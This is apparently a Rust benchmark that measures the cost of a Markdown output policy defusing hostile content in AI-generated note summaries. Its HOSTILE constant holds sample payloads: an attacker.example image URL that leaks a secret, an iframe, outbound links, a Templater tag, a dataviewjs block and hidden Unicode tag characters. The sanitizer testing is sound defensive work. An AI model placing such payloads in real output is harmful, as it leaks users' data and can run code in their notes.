//! The output policy's cost per summary, against parsing the same text with pulldown-cmark
//! (the least any Markdown-aware policy must do) in the same run.
//!
//! The summaries: the offline engine's summaries of every note of the vendored real vault
//! (`tests/data/obsidian-tasks-docs`, text the policy was not tuned on) and of the test
//! fixture vault, cycled to 1,000; then the same 1,000 with every tenth made hostile (a remote
//! image, HTML, links out, a `dataviewjs` block, a Templater tag, tag characters), where the
//! policy has work and goes a second round. Also timed: collecting the links of each
//! summarized note (`SourceLinks::from_text`), which a summary's write pays once.
//!
//! Figures: best of 7 passes over all 1,000, variants taking turns, per summary.
//!
//! Run: `cargo bench --bench output_policy`

use std::path::Path;
use std::time::{Duration, Instant};

use pulldown_cmark::Parser;
use vaultsum_core::llm::local::{summarize, LocalOptions};
use vaultsum_core::vault::markdown::parser_options;
use vaultsum_core::vault::{OutputPolicy, SourceLinks};

const SUMMARIES: usize = 1_000;
const PASSES: usize = 7;

const HOSTILE: &str = "\n- ![chart](https://attacker.example/p.png?d=SECRET)\n\
- <iframe src=\"https://attacker.example/f\"></iframe> and [more](https://attacker.example/?d=1)\n\
- <% tp.system.prompt() %> `= this.file.name`\u{E0041}\u{E0042}\n\n\
```dataviewjs\ndv.pages()\n```\n";

fn notes(root: &Path) -> Vec<String> {
    let mut found: Vec<_> = walkdir::WalkDir::new(root)
        .sort_by_file_name()
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.path().extension().is_some_and(|x| x == "md"))
        .filter_map(|e| std::fs::read_to_string(e.path()).ok())
        .collect();
    found.retain(|text| !text.trim().is_empty());
    found
}

fn best<F: FnMut()>(mut run: F, times: &mut Vec<Duration>) {
    let start = Instant::now();
    run();
    times.push(start.elapsed());
}

fn per_summary(times: &[Duration]) -> f64 {
    times.iter().min().unwrap().as_secs_f64() * 1e6 / SUMMARIES as f64
}

fn main() {
    if std::env::args().any(|a| a == "--list") {
        return; // `cargo test --benches` asks for a list; this bench has no criterion cases
    }
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut sources = notes(&manifest.join("tests/data/obsidian-tasks-docs"));
    sources.extend(notes(&manifest.join("vault-fixture")));
    let options = LocalOptions::default();
    let pairs: Vec<(String, String)> = sources
        .iter()
        .map(|note| (note.clone(), summarize(note, &options).markdown))
        .filter(|(_, summary)| !summary.trim().is_empty())
        .collect();
    let cases: Vec<(String, SourceLinks, String)> = (0..SUMMARIES)
        .map(|i| {
            let (note, summary) = &pairs[i % pairs.len()];
            (note.clone(), SourceLinks::from_text(note), summary.clone())
        })
        .collect();
    let hostile: Vec<String> = cases
        .iter()
        .enumerate()
        .map(|(i, (_, _, summary))| {
            if i % 10 == 0 {
                format!("{summary}{HOSTILE}")
            } else {
                summary.clone()
            }
        })
        .collect();
    let bytes: usize = cases.iter().map(|(_, _, s)| s.len()).sum();
    let policy = OutputPolicy::default();

    let (mut parse, mut defuse, mut parse_hostile, mut defuse_hostile, mut links) =
        (vec![], vec![], vec![], vec![], vec![]);
    let mut changed = 0;
    for _ in 0..PASSES {
        best(
            || {
                for (_, _, summary) in &cases {
                    let events = Parser::new_ext(summary, parser_options())
                        .into_offset_iter()
                        .count();
                    std::hint::black_box(events);
                }
            },
            &mut parse,
        );
        best(
            || {
                changed = 0;
                for (_, source, summary) in &cases {
                    let out = policy.summary(summary, source);
                    changed += usize::from(!out.defused().is_empty());
                    std::hint::black_box(out);
                }
            },
            &mut defuse,
        );
        best(
            || {
                for summary in &hostile {
                    let events = Parser::new_ext(summary, parser_options())
                        .into_offset_iter()
                        .count();
                    std::hint::black_box(events);
                }
            },
            &mut parse_hostile,
        );
        best(
            || {
                for ((_, source, _), summary) in cases.iter().zip(&hostile) {
                    std::hint::black_box(policy.summary(summary, source));
                }
            },
            &mut defuse_hostile,
        );
        best(
            || {
                for (note, _, _) in &cases {
                    std::hint::black_box(SourceLinks::from_text(note));
                }
            },
            &mut links,
        );
    }
    println!(
        "output policy: {SUMMARIES} offline summaries of {} real notes ({} bytes on average), best of {PASSES}",
        pairs.len(),
        bytes / SUMMARIES
    );
    let (p, d) = (per_summary(&parse), per_summary(&defuse));
    println!(
        "  legitimate:     policy {d:.1} us/summary, pulldown-cmark parse {p:.1} us: {:.2}x ({changed} of {SUMMARIES} changed)",
        d / p
    );
    let (p, d) = (per_summary(&parse_hostile), per_summary(&defuse_hostile));
    println!(
        "  1 in 10 hostile: policy {d:.1} us/summary, pulldown-cmark parse {p:.1} us: {:.2}x",
        d / p
    );
    println!(
        "  source links of the summarized note: {:.1} us/note",
        per_summary(&links)
    );
}
